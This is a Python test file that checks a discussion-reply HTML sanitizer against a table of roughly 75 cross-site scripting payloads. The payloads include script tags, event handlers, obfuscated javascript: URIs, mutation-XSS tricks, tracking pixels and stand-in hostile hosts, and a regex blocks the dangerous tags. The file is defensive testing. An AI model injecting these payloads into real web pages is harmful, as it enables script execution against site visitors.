"""Hostile reply bodies are harmless: a table of payloads, informed by the public XSS corpora
(OWASP filter evasion cheat sheet, RSnake, PortSwigger, html5sec/H5SC, DOMPurify fixtures),
written for this project (not copied)."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from fireside.discussions.platforms.yammer import PLATFORM as YAMMER
from fireside.discussions.sanitize import ALLOWED_TAGS, LINK_REL, initials, render_body
from tests.conftest import make_reply, save_thread

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) /><a id=x>y</a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)><a>z</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">newline</a>",
    "<a href=\" &#14;  javascript:alert(1)\">ctrl</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">ent</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">colon</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"//evil.example/\">protocol relative</a>",
    "<a href=\"/admin\">relative</a>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\">ok</a>",
    "<a href=\"https://ok.example/\" target=\"_blank\" rel=\"opener\">opener</a>",
    "<a href=\"https://ok.example/\" style=\"position:fixed;top:0\">overlay</a>",
    "<p style=\"background:url(javascript:alert(1))\">css</p>",
    "<div style=\"width: expression(alert(1));\">expr</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<form action=https://evil.example/><input name=p type=password></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table background=javascript:alert(1)>",
    "<div/onmouseover='alert(1)'>hover</div>",
    "<b onmouseover=alert(1)>bold</b>",
    "<p id=x tabindex=1 onfocusin=alert(1)>focus</p>",
    "<blockquote cite=javascript:alert(1)>quote</blockquote>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<img src=https://tracker.example/pixel.gif>",
    "<img srcset=https://tracker.example/a.png>",
    "<picture><source srcset=https://tracker.example/b.png></picture>",
    "<a href=\"https://ok.example/\"><img src=https://tracker.example/c.png></a>",
    "<frameset onload=alert(1)>",
    "<applet code=x.class>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "\"><script>alert(1)</script>",
    "'';!--\"<XSS>=&{()}",
    "<a href=\"mailto:someone@example.com\">write</a>",
]

# What must never come out of a body: tags and attributes outside the allow-list.
BANNED = re.compile(r"<\s*/?\s*(script|style|iframe|object|embed|form|meta|link|base|img|svg|math"
                    r"|input|button|video|audio|source|picture|frame|frameset|applet|template)\b",
                    re.IGNORECASE)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def check_safe(output: str) -> _Collector:
    """Assert ``output`` is within the allow-list; return what was parsed."""
    assert not BANNED.search(output), output
    parsed = _Collector()
    parsed.feed(output)
    parsed.close()
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, (tag, output)
        for name, value in attrs:
            assert not name.startswith("on"), (name, output)
            assert name in ({"href", "title", "rel"} if tag == "a" else set()), (tag, name)
            if name == "href":
                plain = re.sub(r"[\x00-\x20\x7f]", "", html.unescape(value or "")).lower()
                assert plain.startswith(("http:", "https:", "mailto:")), (value, output)
            if name == "rel":
                assert value == LINK_REL
    return parsed


def test_at_least_sixty_payloads() -> None:
    assert len(PAYLOADS) >= 60


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_html_body_is_cleaned_and_surrounding_text_survives(index: int) -> None:
    body = f"<p>before{index} {PAYLOADS[index]} after{index}</p>"
    out = render_body(body, "html")
    parsed = check_safe(out)
    text = "".join(parsed.text)
    assert f"before{index}" in text
    # The text after a payload survives unless the payload opens a raw-text element whose
    # content is dropped as a whole (as browsers would treat it).
    if not re.search(r"<(script|style|iframe|noscript|title|xmp|textarea|template|select|"
                     r"svg|math|frameset|applet|object|noembed)", PAYLOADS[index], re.I):
        assert f"after{index}" in text, out


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_text_body_is_escaped_verbatim(index: int) -> None:
    body = f"before {PAYLOADS[index]} after"
    out = render_body(body, "text")
    parsed = _Collector()
    parsed.feed(out)
    assert {t for t, _ in parsed.tags} <= {"p", "br"}
    text = "".join(parsed.text)
    expected = re.sub(r"[\w.+-]+@[\w-]+\.\w+", "[email hidden]", body)
    assert text.replace("\n", "") == expected.replace("\n", "")


@pytest.mark.parametrize(("body", "expected"), [
    ("x<y and y>z", "<p>x&lt;y and y&gt;z</p>"),
    ("I <3 the <CEO>", "<p>I &lt;3 the &lt;CEO&gt;</p>"),
    ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
    ("Tom & Jerry", "<p>Tom &amp; Jerry</p>"),
])
def test_plain_text_reads_exactly(body: str, expected: str) -> None:
    assert render_body(body, "text") == expected


def test_links_keep_http_and_gain_rel() -> None:
    out = render_body('<a href="https://ok.example/a?b=1&c=2" title="t">ok</a>', "html")
    assert out == ('<a href="https://ok.example/a?b=1&amp;c=2" title="t" '
                   'rel="nofollow noopener noreferrer">ok</a>')


def test_allowed_formatting_survives() -> None:
    body = ("<p><strong>a</strong> <em>b</em> <b>c</b> <i>d</i><br><code>e</code></p>"
            "<ul><li>f</li></ul><ol><li>g</li></ol><blockquote>h</blockquote><pre>i</pre>")
    assert render_body(body, "html") == body


def test_mentions_read_as_names() -> None:
    names = {"15": "Dana <Whitfield>"}
    assert render_body("hi [[user:15]] and [[user:99]]", "text", names, YAMMER.mention) == \
        "<p>hi @Dana &lt;Whitfield&gt; and @a colleague</p>"
    assert render_body("<p>hi [[user:15]]</p>", "html", names, YAMMER.mention) == \
        "<p>hi @Dana &lt;Whitfield&gt;</p>"


def test_email_addresses_are_never_published() -> None:
    out = render_body('<p>ask joe.bloggs@northwind.example or '
                      '<a href="mailto:x@northwind.example">me</a></p>', "html")
    assert "@northwind" not in out and "[email hidden]" in out
    assert "joe@x.example" not in render_body("mail joe@x.example", "text")


def test_initials() -> None:
    assert initials("Dana Whitfield") == "DW"
    assert initials("cher") == "C"
    assert initials("Jean-Luc de la Tour") == "JT"
    assert initials("<>") == "?"


def test_every_payload_is_harmless_in_a_built_page(project: Any) -> None:
    """All payloads as replies of one thread: the built panel holds none of them."""
    project.post("hostile", discussion="yammer:2000000001")
    replies = [make_reply(str(3000 + i), body=f"<p>before{i} {p} after{i}</p>", likes=1)
               for i, p in enumerate(PAYLOADS)]
    replies.append(make_reply("2999", name='"><img src=x onerror=alert(1)>', likes=5,
                              body="<p>name</p>"))
    save_thread(Path(project.root) / "data/discussions", "2000000001", replies)
    project.build(discussions={"top_replies": len(replies)})
    page = project.html("posts/hostile/")
    panel = page[page.index('<section class="fs-discussion"'):]
    panel = panel[: panel.index("</section>") + len("</section>")]
    assert not BANNED.search(panel)
    parsed = _Collector()
    parsed.feed(panel)
    for tag, attrs in parsed.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "action", "formaction", "data", "srcset"):
                plain = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
                assert plain.startswith(("http:", "https:", "mailto:", "#")), (tag, value)
    text = "".join(parsed.text)
    assert '"><img src=x onerror=alert(1)>' in text  # the hostile name, shown as text
    for i in range(len(PAYLOADS)):
        assert f"before{i}" in text
